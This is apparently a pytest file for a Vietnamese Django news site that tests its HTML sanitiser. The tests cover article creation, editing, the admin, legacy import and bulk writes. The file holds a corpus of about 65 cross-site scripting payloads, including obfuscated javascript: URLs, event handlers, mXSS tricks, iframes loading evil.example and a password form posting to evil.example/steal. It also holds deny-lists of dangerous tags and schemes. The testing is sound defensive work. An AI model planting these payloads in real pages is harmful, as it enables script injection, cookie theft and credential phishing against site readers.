"""A hostile corpus: nothing that runs code, loads foreign content or restyles
the page may reach a reader, whichever way the body was written."""

import datetime
import json
import re
from html.parser import HTMLParser
from io import StringIO

import pytest
from django.conf import settings
from django.core.management import call_command
from django.utils import timezone

from about.models import IntroPage
from core.html import ckeditor_allowed_content, html_to_text, sanitize_html
from news.models import Article
from tests.factories import article_form_data, make_article, move

pytestmark = pytest.mark.django_db

ADD_URL = "/admin/news/article/add/"

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-src-uppercase": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-in-paragraph": "<p>Tin <script>document.cookie</script> mới.</p>",
    "onclick": '<p onclick="alert(1)">Bấm vào đây</p>',
    "onerror": '<img src="x" onerror="alert(1)">',
    "onerror-uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    "onerror-self-closing": '<img src="a.png" alt="x" onerror="alert(1)"//>',
    "onmouseover-unclosed": "<p>Không đóng thẻ <b onmouseover=alert(1)>đậm",
    "body-onload": "<body onload=alert(1)><p>Nội dung</p></body>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "marquee-onstart": "<marquee onstart=alert(1)>Chữ chạy</marquee>",
    "href-javascript": '<a href="javascript:alert(1)">Xem thêm</a>',
    "href-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">Xem thêm</a>',
    "href-javascript-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "href-javascript-padded-entities": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "href-javascript-hex-and-named": '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    "href-javascript-tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href-javascript-newline": '<a href="java\nscript:alert(1)">x</a>',
    "href-javascript-null": '<a href="java\0script:alert(1)">x</a>',
    "href-javascript-leading-space": '<a href="  javascript:alert(1)">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href-vbscript-mixed-case": '<a href="VbScRiPt:msgbox(1)">x</a>',
    "href-data-html": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Tải về</a>'
    ),
    "img-src-javascript": '<img src="javascript:alert(1)" alt="x">',
    "img-src-data-svg": (
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">'
    ),
    "img-src-data-mixed-case": '<img src="DaTa:image/png;base64,iVBORw0KGgo=" alt="x">',
    "img-srcset": '<img src="a.png" srcset="javascript:alert(1) 2x" alt="x">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object": '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash">',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": (
        '<form action="https://evil.example/steal" method="post">'
        '<input name="password" type="password"><button>Gửi</button></form>'
    ),
    "input-autofocus": '<input type="text" onfocus="alert(1)" autofocus>',
    "button-formaction": '<button formaction="javascript:alert(1)">Gửi</button>',
    "textarea-select": "<textarea>x</textarea><select><option>1</option></select>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "style-attribute": '<p style="color:red">Chữ đỏ</p>',
    "style-attribute-url": '<p style="background:url(javascript:alert(1))">Nền</p>',
    "style-attribute-overlay": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Đăng nhập lại</div>'
    ),
    "style-expression": '<img src="a.png" style="width:expression(alert(1))" alt="x">',
    "style-element": "<style>body{display:none}</style>",
    "style-element-import": "<style>@import 'https://evil.example/x.css';</style>",
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "svg-onload": '<svg onload="alert(1)"></svg>',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "math-href": '<math href="javascript:alert(1)">x</math>',
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base-href": '<base href="https://evil.example/">',
    "table-background": ('<table background="javascript:alert(1)"><tr><td>Ô</td></tr></table>'),
    "comment-script": "<!-- <script>alert(1)</script> -->",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "video-onerror": "<video src=x onerror=alert(1)></video>",
    "audio-source": "<audio><source src=x onerror=alert(1)></audio>",
    "unknown-tag-style": '<xss style="behavior: url(x.htc)">x</xss>',
    "unclosed-img": "<img src=x onerror=alert(1)",
    "unclosed-anchor": '<a href="javascript:alert(1)">bấm',
}

# What the public page may contain inside the article's text.
ARTICLE_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6",
    "strong", "b", "em", "i", "u", "s", "sub", "sup",
    "blockquote", "ul", "ol", "li", "a",
    "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td",
    "figure", "figcaption", "img",
}  # fmt: skip
ARTICLE_ATTRIBUTES = {
    "href", "title", "rel", "src", "alt", "width", "height",
    "colspan", "rowspan", "scope", "loading", "class",
}  # fmt: skip
# Anywhere on the page, not only in the article.
# The page's own reading-tool buttons are fine; in the article text they are not.
NEVER_ON_A_PAGE = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "textarea", "select", "style", "svg", "math", "base", "isindex", "template", "video",
    "audio", "source", "marquee", "details", "xss", "noscript",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "xlink:href", "data"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
PAGE_SCRIPTS = {"/static/js/article.js", "/static/js/prefs.js", "/static/js/site.js"}
# The page's own search box and share link, outside the article.
PAGE_CONTROLS = {("form", "action", "/tim-kiem/"), ("input", "id", "header-search")}
PAGE_CONTROLS |= {("input", "id", "share-url")}
STRUCTURED_DATA = "application/ld+json"


class Elements(HTMLParser):
    """Collect every element as the browser would see it: (tag, attrs, inside the article)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.article_depth = 0
        self.script_text = []
        self.comments = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if self.article_depth:
            self.article_depth += tag not in {"img", "br", "hr"}
        elif "data-article-text" in attrs:
            self.article_depth = 1
            return
        self.elements.append((tag, attrs, bool(self.article_depth)))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs), bool(self.article_depth)))

    def handle_endtag(self, tag):
        if self.article_depth and tag not in {"img", "br", "hr"}:
            self.article_depth -= 1

    def handle_comment(self, data):
        # Old browsers run conditional comments; none should be left for readers.
        self.comments.append(data)

    def handle_data(self, data):
        if self.lasttag == "script":
            self.script_text.append(data.strip())
        in_data = self.elements and self.elements[-1][1].get("type") == STRUCTURED_DATA
        if self.lasttag == "script" and in_data and data.strip():
            # Structured data is JSON that no "<" can end early; anything else is a danger.
            json.loads(self.script_text.pop())
            assert "<" not in data


def scheme(url):
    """Return the URL scheme a browser would use, ignoring the whitespace it ignores."""
    url = re.sub(r"[\x00-\x20\x7f]", "", url or "").lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", url)
    return match.group(1) if match else None


def dangers(elements, in_article_only=False):
    """Return a description of every dangerous thing among elements."""
    found = []
    for tag, attrs, in_article in elements:
        if in_article_only and not in_article:
            continue
        own = not in_article and any(
            (tag, name, attrs.get(name)) in PAGE_CONTROLS for name in ("action", "id")
        )
        if tag in NEVER_ON_A_PAGE and not own:
            found.append(f"<{tag}>")
        if tag == "script" and not (
            attrs.get("src") in PAGE_SCRIPTS or attrs == {"type": STRUCTURED_DATA}
        ):
            found.append(f"<script {attrs}>")
        if tag == "meta" and "http-equiv" in attrs:
            found.append("<meta http-equiv>")
        if in_article and tag not in ARTICLE_TAGS:
            found.append(f"<{tag}> in the article")
        for name, value in attrs.items():
            if name.startswith("on") or name in {"style", "srcdoc", "srcset"}:
                found.append(f"<{tag} {name}>")
            if in_article and name not in ARTICLE_ATTRIBUTES:
                found.append(f"<{tag} {name}> in the article")
            if name in URL_ATTRIBUTES and scheme(value) not in (None, *SAFE_SCHEMES):
                found.append(f"<{tag} {name}={value!r}>")
    return found


def parse(html):
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser


def parsed_dangers(parser):
    return (
        dangers(parser.elements)
        + [f"inline script {text!r}" for text in parser.script_text if text]
        + [f"comment {text!r}" for text in parser.comments]
    )


def stored_dangers(body):
    """Return the dangers in a stored body, all of which is article text."""
    return parsed_dangers(parse(f"<div data-article-text>{body}</div>"))


def page_dangers(client, article):
    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    return parsed_dangers(parse(response.content.decode()))


SAFE_TEXT = "<p>Tuổi trẻ Bắc Kạn ra quân tình nguyện.</p>"


def write_with_create(client, payload):
    return make_article(body=SAFE_TEXT + payload)


def write_with_update(client, payload):
    article = make_article(body=SAFE_TEXT)
    article.body = SAFE_TEXT + payload
    article.save()
    return article


def write_with_admin(client, payload):
    response = client.post(ADD_URL, article_form_data(body=SAFE_TEXT + payload))
    if "\0" in payload:
        # Django's forms refuse null characters outright: nothing is stored.
        assert response.status_code == 200
        assert not Article.objects.exists()
        return make_article(body=SAFE_TEXT + payload)
    assert response.status_code == 302
    article = Article.objects.get()
    # The admin saves a draft; the workflow publishes it.
    move(client, article, "publish", published_at="")
    article.refresh_from_db()
    assert article.status == Article.Status.PUBLISHED
    return article


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize(
    "write",
    [write_with_create, write_with_update, write_with_admin],
    ids=["create", "save", "admin"],
)
def test_hostile_markup_never_reaches_a_reader(admin_client, client, write, payload):
    article = write(admin_client, payload)
    article.refresh_from_db()
    assert stored_dangers(article.body) == []
    assert "Tuổi trẻ Bắc Kạn ra quân tình nguyện." in article.body
    assert page_dangers(client, article) == []


def test_the_corpus_is_large_and_each_payload_is_dangerous_unsanitised():
    """Guard the corpus itself: the checks above catch every payload left as it is."""
    assert len(HOSTILE) >= 40
    harmless = [name for name, payload in HOSTILE.items() if not stored_dangers(payload)]
    # These hide their danger from a plain HTML parser but not from a browser.
    assert harmless == []


def test_hostile_lines_in_a_legacy_file_are_imported_as_plain_text(tmp_path, client):
    lines = [payload.replace("\n", " ") + " ." for payload in HOSTILE.values()]
    export = "\n\n".join(
        [
            "12/01/2023",
            "Bài có mã độc",
            "Sapo <script>alert(1)</script> của bài.",
            *lines,
            "Ngọc Tú",
        ]
    )
    path = tmp_path / "hostile.txt"
    path.write_text(export, encoding="utf-8")
    call_command("import_legacy", str(path), status="published", stdout=StringIO())
    article = Article.objects.get()
    assert stored_dangers(article.body) == []
    # Written as text, the markup stays readable to the reader rather than vanishing.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in article.body
    assert article.body.count("<p>") == len(HOSTILE)
    page = client.get(article.get_absolute_url()).content.decode()
    assert "Sapo &lt;script&gt;alert(1)&lt;/script&gt; của bài." in page
    assert page_dangers(client, article) == []


NEWS_MARKUP = """
<h2>Kết quả nổi bật</h2>
<p>Năm 2022, <strong>9 xã</strong> được <em>hỗ trợ</em>; <b>5 xã</b> <i>xuất sắc</i>,
<u>gạch chân</u>, <s>gạch ngang</s>, H<sub>2</sub>O, m<sup>2</sup>.<br>Dòng mới.</p>
<h3>Các xã</h3>
<ul><li>Vi Hương</li><li>Hoàng Trĩ</li></ul>
<ol><li>Ngọc Phái</li><li>Bình Văn</li></ol>
<blockquote><p>Tuổi trẻ xung kích, sáng tạo.</p></blockquote>
<p><a href="https://tinhdoanbackan.vn/tin-tuc/" title="Trang Tỉnh đoàn">Tin Tỉnh đoàn</a>,
<a href="http://example.com/bao-cao">báo cáo</a>,
<a href="mailto:tinhdoan@backan.gov.vn">thư</a>,
<a href="/chuyen-muc/cong-tac-doan/">chuyên mục</a></p>
<hr>
<table><caption>Xếp loại</caption>
<thead><tr><th scope="col">Xã</th><th scope="col">Kết quả</th></tr></thead>
<tbody><tr><td>Kim Hỷ</td><td>Hoàn thành xuất sắc</td></tr>
<tr><td colspan="2" rowspan="1">Cổ Linh</td></tr></tbody></table>
<figure><img src="/media/uploads/ra-quan.jpg" alt="Lễ ra quân" width="640" height="480">
<figcaption>Lễ ra quân</figcaption></figure>
<figure><img src="https://tinhdoanbackan.vn/anh/hoi-nghi.jpg" alt="Hội nghị">
<figcaption>Hội nghị tổng kết</figcaption></figure>
"""

EXPECTED_NEWS_ELEMENTS = [
    ("h2", {}),
    ("strong", {}),
    ("em", {}),
    ("b", {}),
    ("i", {}),
    ("u", {}),
    ("s", {}),
    ("sub", {}),
    ("sup", {}),
    ("br", {}),
    ("h3", {}),
    ("ul", {}),
    ("ol", {}),
    ("li", {}),
    ("blockquote", {}),
    ("a", {"href": "https://tinhdoanbackan.vn/tin-tuc/", "title": "Trang Tỉnh đoàn"}),
    ("a", {"href": "http://example.com/bao-cao"}),
    ("a", {"href": "mailto:tinhdoan@backan.gov.vn"}),
    ("a", {"href": "/chuyen-muc/cong-tac-doan/"}),
    ("hr", {}),
    ("table", {}),
    ("caption", {}),
    ("thead", {}),
    ("tbody", {}),
    ("th", {"scope": "col"}),
    ("td", {"colspan": "2", "rowspan": "1"}),
    ("figure", {}),
    (
        "img",
        {"src": "/media/uploads/ra-quan.jpg", "alt": "Lễ ra quân", "width": "640", "height": "480"},
    ),
    ("img", {"src": "https://tinhdoanbackan.vn/anh/hoi-nghi.jpg", "alt": "Hội nghị"}),
    ("figcaption", {}),
]


def has_element(elements, tag, attrs):
    return any(
        found_tag == tag and attrs.items() <= found_attrs.items()
        for found_tag, found_attrs, _ in elements
    )


@pytest.mark.parametrize(
    "write",
    [write_with_create, write_with_update, write_with_admin],
    ids=["create", "save", "admin"],
)
def test_news_markup_survives_sanitising(admin_client, client, write):
    article = write(admin_client, NEWS_MARKUP)
    article.refresh_from_db()
    stored = parse(article.body).elements
    response = client.get(article.get_absolute_url())
    shown = [element for element in parse(response.content.decode()).elements if element[2]]
    for tag, attrs in EXPECTED_NEWS_ELEMENTS:
        assert has_element(stored, tag, attrs), (tag, attrs)
        assert has_element(shown, tag, attrs), (tag, attrs)
    for text in ("Kết quả nổi bật", "Hoàng Trĩ", "Tuổi trẻ xung kích, sáng tạo.", "Kim Hỷ"):
        assert text in response.content.decode()


def test_links_are_kept_with_a_safe_rel():
    article = make_article(body='<p><a href="https://example.com/">Nguồn</a></p>')
    (anchor,) = [attrs for tag, attrs, _ in parse(article.body).elements if tag == "a"]
    assert "noopener" in anchor["rel"]


def test_body_is_sanitised_again_when_an_article_is_edited():
    article = make_article(body=SAFE_TEXT)
    article.body += '<p onclick="alert(1)">Sửa lại.</p><script>alert(2)</script>'
    article.save(update_fields=["body"])
    article.refresh_from_db()
    assert stored_dangers(article.body) == []
    assert "Sửa lại." in article.body


def test_rich_text_written_in_bulk_is_sanitised_by_its_field():
    payload = '<p onclick="alert(1)">Tin.</p><script>alert(1)</script>'
    (article,) = Article.objects.bulk_create(
        [
            Article(
                title="Tin nhập hàng loạt",
                slug="tin-nhap-hang-loat",
                lead="Sapo.",
                body=payload,
                status=Article.Status.PUBLISHED,
                published_at=timezone.now() - datetime.timedelta(hours=1),
            )
        ]
    )
    page = IntroPage.objects.create(title="Giới thiệu", body=payload, body_en=payload)
    article.refresh_from_db()
    page.refresh_from_db()
    assert stored_dangers(article.body) == stored_dangers(page.body) == []
    assert stored_dangers(page.body_en) == []


def test_rederive_cleans_what_was_written_by_sql(client):
    payload = '<p onclick="alert(1)">Tin.</p><script>alert(1)</script>'
    article = make_article()
    Article.objects.filter(pk=article.pk).update(body=payload)
    page = IntroPage.objects.create(title="Giới thiệu", body="<p>Sạch.</p>")
    IntroPage.objects.filter(pk=page.pk).update(body_en=payload)
    make_article(title="Bài sạch")
    version = Article.objects.get(pk=article.pk).version

    dry, out = StringIO(), StringIO()
    call_command("rederive", "--dry-run", "--no-progress", stdout=dry)
    assert "news.Article: 1 row(s) would change." in dry.getvalue().splitlines()
    assert "about.IntroPage: 1 row(s) would change." in dry.getvalue().splitlines()
    assert stored_dangers(Article.objects.get(pk=article.pk).body) != []
    call_command("rederive", "--no-progress", stdout=out)
    call_command("rederive", "--no-progress", stdout=out)

    article.refresh_from_db()
    page.refresh_from_db()
    lines = out.getvalue().splitlines()
    assert [line for line in lines if line.startswith("news.Article")] == [
        "news.Article: 1 row(s) rederived.",
        "news.Article: 0 row(s) rederived.",
    ]
    assert stored_dangers(article.body) == stored_dangers(page.body_en) == []
    assert "Tin." in article.body
    assert article.version == version  # cleaning is not an edit
    assert page_dangers(client, article) == []


# CKEditor's image2 plugin: captioned figures, and nothing more than they need.


def test_a_captioned_figure_keeps_its_class_and_nothing_else_does():
    body = (
        '<figure class="image wide" id="x" style="float:left"><img class="image" src="/media/a.jpg"'
        ' alt="Lễ ra quân" width="800" height="533"><figcaption class="image">Lễ ra quân'
        '</figcaption></figure><p class="image">Đoạn.</p>'
    )
    assert sanitize_html(body) == (
        '<figure class="image"><img src="/media/a.jpg" alt="Lễ ra quân" width="800" height="533">'
        "<figcaption>Lễ ra quân</figcaption></figure><p>Đoạn.</p>"
    )


def test_ckeditor_is_told_exactly_what_the_sanitiser_keeps():
    rules = {rule.strip() for rule in ckeditor_allowed_content().split(";")}
    assert "figure(image)" in rules
    assert "img[alt,data-image,height,src,width]" in rules
    assert not any("(" in rule for rule in rules - {"figure(image)"})
    assert settings.CKEDITOR_CONFIGS["default"]["allowedContent"] == ckeditor_allowed_content()
    assert "image2" in settings.CKEDITOR_CONFIGS["default"]["extraPlugins"].split(",")
    assert "image" in settings.CKEDITOR_CONFIGS["default"]["removePlugins"].split(",")


# What shows nothing is nothing: CKEditor's leftovers of a deleted text are stored as "".


@pytest.mark.parametrize(
    "leftover",
    [
        "<p>&nbsp;</p>",
        "<p><br></p>\n\n<p> </p>",
        "<p>\u200b</p>",
        "<hr>",
        "<p><strong> </strong></p>",
    ],
)
def test_html_that_shows_nothing_is_empty(leftover):
    assert sanitize_html(leftover) == ""


@pytest.mark.parametrize(
    "content",
    ['<figure class="image"><img src="/media/a.jpg" alt=""></figure>', "<p>.</p>", "<p>&lt;</p>"],
)
def test_an_image_or_a_single_character_is_kept(content):
    assert sanitize_html(content) == content


def test_an_english_text_deleted_in_ckeditor_leaves_the_page_untranslated(client):
    IntroPage.objects.create(
        title="Chức năng", title_en="Functions", body="<p>Tỉnh đoàn.</p>", body_en="<p>&nbsp;</p>"
    )
    content = client.get("/en/gioi-thieu/chuc-nang/").content.decode()
    assert "This page has not been translated into English yet." in content
    assert '<div class="article-text" lang="vi"><p>Tỉnh đoàn.</p></div>' in content


# Plain text for e-mails


def test_rich_text_reads_as_plain_text_block_by_block():
    html = sanitize_html(
        "<h2>Thủ tục</h2>\n<p>Bạn&nbsp;liên hệ <strong>Đoàn cơ sở</strong>,\n xem "
        '<a href="https://tinhdoan.example/huong-dan?a=1&amp;b=2">hướng dẫn</a> hoặc viết '
        'cho <a href="mailto:vp@tinhdoan.example">vp@tinhdoan.example</a>.<br>Dòng hai.</p>\n'
        "<ul>\n\t<li>thẻ đoàn viên;</li>\n\t<li><p>sổ đoàn viên.</p></li>\n</ul>"
        "<ol><li>Làm đơn.</li><li>Nộp đơn.</li></ol>"
        "<table><tr><th>Việc</th><th>Hạn</th></tr><tr><td>Nộp đơn</td><td>5/3</td></tr></table>"
        '<figure class="image"><img src="/media/a.jpg" alt="Lễ ra quân">'
        "<figcaption>Ảnh: Tỉnh đoàn</figcaption></figure>"
    )
    assert html_to_text(html) == (
        "Thủ tục\n\n"
        "Bạn liên hệ Đoàn cơ sở, xem hướng dẫn (https://tinhdoan.example/huong-dan?a=1&b=2)"
        " hoặc viết cho vp@tinhdoan.example.\nDòng hai.\n\n"
        "- thẻ đoàn viên;\n\n"
        "- sổ đoàn viên.\n\n"
        "1. Làm đơn.\n\n"
        "2. Nộp đơn.\n\n"
        "Việc | Hạn\nNộp đơn | 5/3\n\n"
        "[Lễ ra quân]\n\n"
        "Ảnh: Tỉnh đoàn"
    )


def test_plain_text_of_nothing_is_nothing():
    assert html_to_text("") == html_to_text(sanitize_html("<p>&nbsp;</p>")) == ""
    assert html_to_text("Chỉ một câu.") == "Chỉ một câu."
